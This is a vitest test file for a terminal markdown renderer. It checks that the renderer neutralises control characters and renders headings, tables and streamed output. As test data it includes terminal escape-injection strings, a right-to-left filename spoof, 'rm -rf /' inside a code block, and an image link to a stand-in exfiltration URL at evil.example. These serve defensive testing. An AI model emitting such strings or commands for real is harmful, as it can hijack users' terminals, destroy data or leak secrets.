import { describe, expect, it } from 'vitest';
import {
  MarkdownStream,
  renderMarkdown,
  safeTerminalText,
  wantsColor,
} from '../../../src-main/cli/terminalMarkdown.js';

const plain = (text: string) => renderMarkdown(text, { color: false });
const colored = (text: string) => renderMarkdown(text, { color: true });
// eslint-disable-next-line no-control-regex -- the renderer's own styles, removed to compare text
const unstyled = (text: string) => text.replace(/\x1b\[[0-9;]*m/g, '');

describe('terminal markdown: an answer cannot rewrite the terminal', () => {
  it('shows escape sequences, carriage returns and C1 controls as visible text, never raw', () => {
    const attack = 'ok\x1b[2J\x1b]0;pwned\x07 \r✓ safe \x9b31m \x08\x7f end \u202egnp.exe\u202c';
    const shown = safeTerminalText(attack);

    // eslint-disable-next-line no-control-regex -- asserting none is left
    expect(shown).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/u);
    expect(shown).toBe('ok␛[2J␛]0;pwned␇ ␍✓ safe �31m ␈␡ end �gnp.exe�');
  });

  it('keeps newlines and tabs, and only its own styles reach a colored rendering', () => {
    expect(safeTerminalText('a\tb\nc')).toBe('a\tb\nc');
    const out = colored('**bold** \x1b[31mred');
    // eslint-disable-next-line no-control-regex -- every ESC must start one of our SGR styles
    expect(out.match(/\x1b[^[]|\x1b\[[0-9;]*[^0-9;m]/g)).toBeNull();
    expect(unstyled(out)).toBe('bold ␛[31mred');
  });

  it('neutralises control characters inside code blocks and tables too', () => {
    expect(plain('```\nrm -rf /\x1b[1A\n```')).toBe('  rm -rf /␛[1A');
    expect(plain('| a | b |\n|---|---|\n| \x1b[2J | x |')).not.toContain('\x1b');
  });
});

describe('terminal markdown: rendering', () => {
  it('renders headings, bold, italics, inline code, lists and quotes without their markup', () => {
    const text = [
      '# Old logs',
      'Found **47** files, *all* older than `30` days:',
      '- `~/app/logs` (23)',
      '  * nested',
      '1. first',
      '> quoted',
      '---',
    ].join('\n');

    expect(plain(text).split('\n')).toEqual([
      'Old logs',
      'Found 47 files, all older than 30 days:',
      '• ~/app/logs (23)',
      '  • nested',
      '1. first',
      '│ quoted',
      '─'.repeat(40),
    ]);
    expect(colored('**47**')).toBe('\x1b[1m47\x1b[22m');
    expect(colored('`x`')).toBe('\x1b[36mx\x1b[39m');
  });

  it('leaves snake_case and lone asterisks alone', () => {
    expect(plain('use my_var_name and 2 * 3 * 4')).toBe('use my_var_name and 2 * 3 * 4');
  });

  it('indents fenced code, names its language, and renders nothing inside it', () => {
    expect(plain('Run:\n```bash\necho **not bold** # not a heading\n```\nDone.')).toBe(
      ['Run:', '  bash', '  echo **not bold** # not a heading', 'Done.'].join('\n'),
    );
  });

  it('aligns a table with a header rule', () => {
    const table = '| file | days |\n|:---|---:|\n| a.log | 90 |\n| longer.log | 7 |';
    expect(plain(table).split('\n')).toEqual([
      '  file       │ days',
      '  ───────────┼─────',
      '  a.log      │ 90',
      '  longer.log │ 7',
    ]);
  });

  it('shows where links go and never turns an image into a fetch', () => {
    expect(plain('see [the docs](https://example.com/d) or https://x.example')).toBe(
      'see the docs (https://example.com/d) or https://x.example',
    );
    expect(plain('![chart](https://evil.example/leak?d=secret)')).toBe(
      '[image: chart] (https://evil.example/leak?d=secret)',
    );
  });

  it('streams line by line: the pieces give the same output as the whole, a table at its end', () => {
    const answer = 'Intro **x**\n| a | b |\n|---|---|\n| 1 | 2 |\nafter\n```\ncode\n```\nlast';
    let streamed = '';
    const writes: string[] = [];
    const stream = new MarkdownStream(
      (text) => {
        streamed += text;
        writes.push(text);
      },
      { color: false },
    );
    for (const piece of answer.match(/.{1,3}/gs) ?? []) stream.push(piece);
    // A line is written only once complete; the table waits for its last row.
    expect(writes).toEqual([
      'Intro x\n',
      '  a │ b\n',
      '  ──┼──\n',
      '  1 │ 2\n',
      'after\n',
      '  code\n',
    ]);
    stream.end();

    expect(streamed).toBe(`${plain(answer)}\n`);
  });

  it('colors only terminals, and never with NO_COLOR', () => {
    expect(wantsColor({ isTTY: true }, {})).toBe(true);
    expect(wantsColor({ isTTY: true }, { NO_COLOR: '1' })).toBe(false);
    expect(wantsColor({}, {})).toBe(false);
  });
});
